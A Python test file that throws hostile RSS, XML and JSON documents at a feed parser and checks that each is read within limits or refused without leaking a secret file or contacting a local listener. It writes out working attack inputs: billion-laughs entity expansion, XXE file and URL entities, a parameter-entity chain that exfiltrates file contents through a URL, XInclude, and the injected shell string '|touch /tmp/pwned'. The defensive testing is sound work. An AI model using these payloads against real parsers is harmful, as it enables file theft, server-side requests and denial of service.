"""Hostile documents (section M): read within the limits or refused in one line, touching nothing but their bytes."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from aggregator.errors import ParseError
from tests import watched
from tests.makers import POOL

NOW = datetime(2026, 3, 14, 7, tzinfo=UTC)
HEAD = '<?xml version="1.0" encoding="utf-8"?>'
ITEMS = "".join(
    f"<item><title>Entry {n}</title><link>https://hostile.example/{n}</link><guid>{n}</guid>"
    f"<description>What {n} is about.</description></item>"
    for n in range(3)
)
LONGEST = 600 * 1024  # characters that the entries of any of these may hold together
ATTRIBUTES = " ".join(f"a{n}='v'" for n in range(60_000))


@dataclass(frozen=True)
class Trap:
    """What a document could reach: a file with a secret, and a port where somebody listens."""

    file: Path
    port: int
    listener: socket.socket

    SECRET = "do-not-tell"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/x"

    def was_visited(self) -> bool:
        try:
            self.listener.accept()
        except BlockingIOError:
            return False
        return True


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    file = tmp_path_factory.mktemp("secret") / "secret.txt"
    file.write_text(Trap.SECRET, encoding="utf-8")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield Trap(file, listener.getsockname()[1], listener)


def rss(items: str = ITEMS, doctype: str = "", head: str = HEAD, more: str = "") -> str:
    return f'{head}{doctype}<rss version="2.0"{more}><channel><title>Hostile</title>{items}</channel></rss>'


def item(inside: str) -> str:
    return f"<item><title>Trap</title><guid>trap</guid>{inside}</item>{ITEMS}"


def laughs(declaration: str, use: str) -> str:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return rss(item(use), f'<!DOCTYPE rss [<!ENTITY l0 "lol">{rows}{declaration}]>')


FAST = (3, "limit")  # read on a fast machine, given up on a slow one
# case -> documents made for a trap, with the number of entries that must be found, or the kind of the refusal
Case = Callable[[Trap], str | bytes]
CASES: dict[str, tuple[tuple[Case, int | str | tuple[int | str, ...]], ...]] = {
    "M01": ((lambda _: laughs("", "<description>&l9;</description>"), 4),),
    "M02": ((lambda _: laughs("", "<description>&l9;</description>").replace("utf-8", "utf-16").encode("utf-16"), 4),),
    "M03": ((lambda _: laughs("", '<enclosure url="&l9;" length="1" type="a"/>'), 4),),
    "M04": (
        (lambda _: laughs("<!ENTITY % p \"<!ENTITY q '&#37;p;'>\"> %p;", "<description>&q;</description>"), 4),
    ),
    "M05": (
        (lambda _: rss(item("&a;" * 20_000), f'<!DOCTYPE rss [<!ENTITY a "{"A" * 50_000}">]>'), 4),
        (lambda _: rss(item("&a;" * 100_000), f'<!DOCTYPE rss [<!ENTITY a "{"A" * 60}">]>'), 4),
    ),
    "M06": ((lambda t: rss(item("<author>&x;</author>"), f'<!DOCTYPE r [<!ENTITY x SYSTEM "file:{t.file}">]>'), 4),),
    "M07": ((lambda t: rss(item("<author>&x;</author>"), f'<!DOCTYPE r [<!ENTITY x SYSTEM "{t.url}">]>'), 4),),
    "M08": (
        (lambda t: rss(ITEMS, f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{t.file.as_uri()}"> %f;]>'), 3),
        (lambda t: rss(ITEMS, f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{t.url}"> %f;]>'), 3),
    ),
    "M09": (
        (lambda t: rss(ITEMS, f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{t.file.as_uri()}"><!ENTITY % s "<!ENTITY e SYSTEM'
                              f" '{t.url}?%f;'>\"> %s;]>"), 3),
    ),
    "M10": ((lambda t: rss(ITEMS, f'<!DOCTYPE rss SYSTEM "{t.file.as_uri()}">'), 3),),
    "M11": (
        (lambda t: rss(ITEMS, f'<!DOCTYPE rss SYSTEM "{t.url}">'), 3),
        (lambda t: rss(ITEMS, f'<!DOCTYPE rss PUBLIC "-//A//B//EN" "{t.url}">'), 3),
    ),
    "M12": (
        (lambda t: rss(item(f'<author><x:include href="{t.file.as_uri()}" parse="text"/></author>'),
                       more=' xmlns:x="http://www.w3.org/2001/XInclude"'), 4),
    ),
    "M13": ((lambda t: HEAD + f'<?xml-stylesheet type="text/xsl" href="{t.url}"?>' + rss(head=""), 3),),
    "M14": (
        (lambda _: rss(item(f"<x {ATTRIBUTES}/>")), 4),
        (lambda _: rss(f"<item {ATTRIBUTES}><title>x</title"), "limit"),
    ),
    "M15": ((lambda _: rss(more="".join(f' xmlns:n{n}="urn:n{n}"' for n in range(20_000))), 3),),
    "M16": (
        (lambda _: rss(ITEMS + "<x>" * 200_000 + "</x>" * 200_000), "limit"),
        (lambda _: rss("<item><title>x</title>" * 20_000 + "</item>" * 20_000), (1, "limit")),
    ),
    "M17": (
        (lambda _: rss(item(f"<description>{'word ' * 2_000_000}</description>")), 4),
        (lambda _: rss(item(f'<x y="{"a" * 10_000_000}"/>')), 4),
        (lambda _: rss(ITEMS + f"<{'x' * 10_000_000}/>"), FAST),
    ),
    "M18": ((lambda _: rss("<item/>" * 1_000_000), (1, "limit")),),  # all but 1,000 are freed on the way
    "M19": ((lambda _: rss(head='<?xml version="1.0" encoding="utf-7"?>').encode("utf-7"), 3),),
    "M20": (
        (lambda _: rss(head='<?xml version="1.0" encoding="utf-16"?>').encode("utf-16-le"), 3),
        (lambda _: rss(head='<?xml version="1.0" encoding="utf-8"?>').encode("utf-16"), 3),
    ),
    "M21": ((lambda _: rss(head='<?xml version="1.0" encoding="utf-32"?>').encode("utf-32"), 3),),
    "M22": ((lambda _: rss(head='<?xml version="1.0" encoding="cp037"?>').encode("cp037"), "not_feed"),),
    "M23": ((lambda _: rss(head='<?xml version="1.0" encoding="undefined"?>'), 3),),
    "M24": ((lambda _: rss(head='<?xml version="1.0" encoding="punycode"?>'), 3),),
    "M25": (
        (lambda _: rss(head='<?xml version="1.0" encoding="zlib"?>'), 3),
        (lambda _: rss(head='<?xml version="1.0" encoding="idna"?>'), 3),
    ),
    "M26": (
        (lambda _: b"\xef\xbb\xbf\xef\xbb\xbf" + rss().encode(), 3),
        (lambda _: b"\xff\xfe" + rss().encode(), "not_feed"),
        (lambda _: b"\xfe\xff" + rss().encode("utf-16-le"), "not_feed"),
    ),
    "M27": ((lambda _: rss(item("<description>a\0b</description>")), 4), (lambda _: b"\0" * 5_000, "not_feed")),
    "M28": (
        (lambda _: rss(item("<description>a&#xD800;b</description>")), 4),
        (lambda _: rss(item("<author>@@</author>")).encode().replace(b"@@", b"\xed\xa0\x80"), 4),
    ),
    "M29": ((lambda _: rss(item("<description>a ]]> b</description>")), 4),),
    "M30": (
        (lambda _: rss(item("<description><![CDATA[a<![CDATA[b]]>c]]></description>")), 4),
        (lambda _: "<rss><channel><title>t</title>" + "<![CDATA[" * 50_000, 0),
    ),
    "M31": (
        (lambda _: HEAD + "<?a b?>" * 200_000 + rss(head=""), 3),
        (lambda _: '<?xml version="1.0"' + " " * 200_000 + rss(head=""), 3),
    ),
    "M32": (
        (lambda _: "null", "not_feed"),
        (lambda _: "[]", "not_feed"),
        (lambda _: "[" * 100_000, "limit"),
        (lambda _: '{"version":"https://jsonfeed.org/version/1.1","items":[],"x":' + "[" * 100_000, "limit"),
        (lambda _: json.dumps(JSON).replace('"title"', '"title": "first", "title"'), 1),
        (lambda _: json.dumps(JSON).replace('"7"', "1e400"), 1),
    ),
    "M33": (
        (lambda t: t.url, "not_feed"),
        (lambda t: str(t.file), "not_feed"),
        (lambda t: t.file.as_uri(), "not_feed"),
        (lambda _: "|touch /tmp/pwned", "not_feed"),
    ),
    "M34": (
        (lambda _: "<!DOCTYPE html><html><head><title>Sign in</title></head><body>x</body></html>", "html"),
        (lambda _: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj", "not_feed"),
        (lambda _: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "not_feed"),
    ),
}  # fmt: skip
JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Hostile",
    "items": [{"id": "7", "title": "Trap", "content_text": "x"}],
}


@pytest.mark.parametrize("name", [pytest.param(name, id=name, marks=pytest.mark.hostile(name)) for name in CASES])
def test_a_hostile_document_is_read_or_refused(name: str, trap: Trap) -> None:
    for make, expected in CASES[name]:
        document, allowed = make(trap), expected if isinstance(expected, tuple) else (expected,)
        body = document if isinstance(document, bytes) else document.encode()
        try:
            feed, entries = POOL.run(watched.read, body, None, NOW)
        except ParseError as error:
            assert error.kind in allowed, error
            assert str(error).isprintable()
            assert len(str(error)) < 300
            continue
        assert len(entries) in allowed
        told = "".join(one.title + one.summary + one.content + one.text + (one.author or "") for one in entries)
        assert Trap.SECRET not in told + str(feed)
        assert len(told) <= 3 * LONGEST
    assert not trap.was_visited()
